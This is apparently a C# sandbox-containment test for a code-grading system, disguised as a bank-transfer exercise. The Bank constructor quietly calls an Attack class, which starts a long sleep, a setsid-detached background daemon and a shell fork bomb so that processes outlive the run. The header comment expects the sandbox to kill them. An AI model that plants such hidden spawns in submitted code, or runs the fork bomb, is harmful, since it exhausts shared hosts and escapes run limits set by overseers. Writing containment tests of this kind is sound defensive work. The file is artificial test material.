// ATTACK (processes): start a long-lived process, a daemon detached into its own session, and a fork bomb, so that
// something of this submission outlives its run on the host. EXPECT: the sandbox (pid namespace, control group, pids
// limit) ends every one of them with the run; a clear verdict, never passed.

using System;
using System.Diagnostics;

static class Attack
{
    private static int done;

    public static void Once()
    {
        if (System.Threading.Interlocked.Exchange(ref done, 1) != 0) return;
        Try("/bin/sleep", "4242.5");
        Try("/bin/sh", "-c \"setsid /bin/sleep 4243.5 >/dev/null 2>&1 < /dev/null &\"");
        Try("/bin/sh", "-c \"f() { f | f & }; f\"");
    }

    private static void Try(string file, string arguments)
    {
        try
        {
            Process.Start(new ProcessStartInfo(file, arguments) { UseShellExecute = false });
            Console.WriteLine("SPAWNED " + file + " " + arguments);
        }
        catch (Exception e) { Console.WriteLine("NO " + file + " " + e.GetType().Name); }
    }
}

public sealed class Bank
{
    private readonly long[] _balances;
    private readonly object[] _locks;

    public Bank(int accountCount, long initialBalance)
    {
        Attack.Once();
        _balances = new long[accountCount];
        _locks = new object[accountCount];
        for (int i = 0; i < accountCount; i++)
        {
            _balances[i] = initialBalance;
            _locks[i] = new object();
        }
    }

    // The deadlocking starter: any pass is a forged pass.
    public bool Transfer(int from, int to, long amount)
    {
        lock (_locks[from])
        {
            lock (_locks[to])
            {
                if (_balances[from] < amount) return false;
                _balances[from] -= amount;
                _balances[to] += amount;
                return true;
            }
        }
    }

    public long BalanceOf(int account)
    {
        lock (_locks[account]) return _balances[account];
    }

    public long TotalBalance()
    {
        long total = 0;
        for (int i = 0; i < _balances.Length; i++)
        {
            lock (_locks[i]) total += _balances[i];
        }
        return total;
    }
}
